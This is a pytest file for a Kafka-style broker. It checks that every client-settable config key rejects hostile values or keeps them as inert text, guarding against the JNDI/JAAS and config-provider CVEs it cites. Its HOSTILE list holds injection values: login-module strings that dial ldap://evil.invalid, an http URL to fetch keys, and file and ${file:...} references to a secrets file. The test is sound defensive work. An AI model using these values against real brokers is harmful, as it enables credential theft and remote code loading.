"""Settings that name code to load, files to read or addresses to dial: each key that clients can set refuses them or
keeps them as text.
"""

from __future__ import annotations

from collections.abc import Iterator

import pytest
from tests.support.log_in import SECURED, log_in
from tests.support.wired import WiredBroker

from barnabas.common import config_table
from barnabas.common.config_keys import ResourceType
from barnabas.common.host import LinkEnd, PeerLink
from barnabas.protocol.messages.describe_configs import DescribeConfigsRequest, DescribeConfigsResponse
from barnabas.protocol.messages.incremental_alter_configs import (
    IncrementalAlterConfigsRequest,
    IncrementalAlterConfigsResponse,
)
from barnabas.simulation.disk import MemoryDisk, MemoryFile
from barnabas.simulation.host import MemoryHost, MemoryLink

SECRET_FILE = "/secrets/db.properties"
SECRET = b"password=marker-of-the-file"
#: Settings that an attacker would try. All name one of the places that `Watch` watches.
HOSTILE = (
    'com.sun.security.auth.module.JndiLoginModule required user.provider.url="ldap://evil.invalid:389/x" '
    'group.provider.url="x";',
    'com.sun.security.auth.module.LdapLoginModule required userProvider="ldap://evil.invalid:389/x";',
    'org.apache.kafka.common.security.oauthbearer.OAuthBearerLoginModule required unsecuredLoginStringClaim_sub="x";',
    "ldap://evil.invalid:389/x",
    "http://evil.invalid/keys",
    f"file://{SECRET_FILE}",
    f"${{file:{SECRET_FILE}:password}}",
    "${env:HOME}",
    SECRET_FILE,
    "evil.Handler",
)
LISTENER_KEYS = (
    "sasl.jaas.config",
    "plain.sasl.jaas.config",
    "scram-sha-512.sasl.jaas.config",
    "oauthbearer.sasl.jaas.config",
    "plain.sasl.server.callback.handler.class",
    "sasl.login.class",
    "sasl.login.callback.handler.class",
    "sasl.oauthbearer.jwks.endpoint.url",
    "sasl.oauthbearer.token.endpoint.url",
    "ssl.keystore.location",
    "ssl.truststore.location",
    "ssl.keystore.key",
    "ssl.engine.factory.class",
    "principal.builder.class",
)
#: Entries of mechanisms that the listener offers: they name a login module.
ENTRIES = {
    "listener.name.plaintext.plain.sasl.jaas.config",
    "listener.name.plaintext.scram-sha-512.sasl.jaas.config",
}


class Watch:
    """A broker whose clients log in. It notes which addresses it dials and which files it opens."""

    def __init__(self) -> None:
        self.dialled: list[str] = []
        self.opened: list[str] = []
        disk = _WatchedDisk(self.opened)
        host = MemoryHost(seed=1, disk=disk)
        host.links = self  # type: ignore[assignment]
        disk.make_dirs("/secrets")
        disk.write(SECRET_FILE, SECRET)
        disk.opened = self.opened
        self._time = host.time
        self.web = host.web
        self.wired = WiredBroker(host, **SECURED)
        self._client = self.wired.connect()
        log_in(self._client)
        self.dialled.clear()
        self.opened.clear()

    def dial(self, host: str, port: int, end: LinkEnd, tls: str | None = None) -> PeerLink:
        self.dialled.append(f"{host}:{port}")
        self._time.call_soon(lambda: end.closed(ConnectionRefusedError("nobody listens")))
        return MemoryLink()

    def set(self, resource: ResourceType, name: str, key: str, value: str | None) -> tuple[int, str]:
        """Sets a key, or removes its setting (None). Returns error code and message."""
        config = IncrementalAlterConfigsRequest.AlterableConfig(
            name=key, value=value, config_operation=0 if value is not None else 1
        )
        changed = IncrementalAlterConfigsRequest.AlterConfigsResource(
            resource_type=resource, resource_name=name, configs=[config]
        )
        request = IncrementalAlterConfigsRequest(resources=[changed])
        (row,) = self._client.call(request, 1, IncrementalAlterConfigsResponse).responses
        return row.error_code, row.error_message or ""

    def described(self, resource: ResourceType, name: str, key: str) -> DescribeConfigsResponse:
        asked = DescribeConfigsRequest.DescribeConfigsResource(
            resource_type=resource, resource_name=name, configuration_keys=[key]
        )
        request = DescribeConfigsRequest(resources=[asked], include_synonyms=True)
        return self._client.call(request, 4, DescribeConfigsResponse)

    def check(self, what: str) -> None:
        self.wired.host.time.run_for(50)
        assert self.dialled == [], what
        assert self.web.requests == [], what
        assert SECRET_FILE not in self.opened, what
        assert self.wired.closes.errors == [], what


class _WatchedDisk(MemoryDisk):
    def __init__(self, opened: list[str]) -> None:
        super().__init__()
        self.opened = opened

    def open(self, path: str, *, create: bool = False, read_only: bool = False) -> MemoryFile:
        self.opened.append(path)
        return super().open(path, create=create, read_only=read_only)

    def read(self, path: str) -> bytes:
        self.opened.append(path)
        return super().read(path)


def _keys() -> Iterator[tuple[ResourceType, str, str]]:
    """Yields each key that a client can set: resource type, resource, key."""
    for row in config_table.BROKER:
        for broker in ("1", ""):
            yield ResourceType.BROKER, broker, row[0]
    for key in LISTENER_KEYS:
        yield ResourceType.BROKER, "1", f"listener.name.plaintext.{key}"
    for row in config_table.TOPIC:
        yield ResourceType.TOPIC, "orders", row[0]
    for row in config_table.GROUP:
        yield ResourceType.GROUP, "g", row[0]
    for row in config_table.CLIENT_METRICS:
        yield ResourceType.CLIENT_METRICS, "m", row[0]


@pytest.fixture(scope="module")
def watch() -> Watch:
    return Watch()


@pytest.mark.parametrize("value", HOSTILE)
def test_no_setting_of_a_client_loads_reads_or_dials(watch: Watch, value: str) -> None:
    """Guards S6 and S7 (CVE-2023-25194, CVE-2024-31141, CVE-2025-27817 to 27819): each key refuses the value, or keeps
    it as the text that it is; no response has the content of the file."""
    accepted = set()
    for resource, name, key in _keys():
        code, message = watch.set(resource, name, key, value)
        watch.check(f"{key}={value}")
        assert "marker-of-the-file" not in message
        if code == 0:
            accepted.add(key)
            described = watch.described(resource, name, key)
            shown = {row.value for row in described.results[0].configs}
            assert shown <= {value, None}, f"{key}: {shown}"
            assert watch.set(resource, name, key, None)[0] == 0
    assert not accepted & ENTRIES, "a module that loads, reads or dials"


def test_a_broker_starts_with_such_text_in_its_metadata() -> None:
    """Guard S7: an Apache controller can have stored any setting; after a restart it is text, and nothing is read."""
    watch = Watch()
    value = f"${{file:{SECRET_FILE}:password}}"
    assert watch.set(ResourceType.BROKER, "1", "principal.builder.class", value)[0] == 0
    watch.opened.clear()
    watch.wired.restart()
    assert SECRET_FILE not in watch.opened
    assert "marker-of-the-file" not in repr(dict(watch.wired.broker.metadata.image.configs))
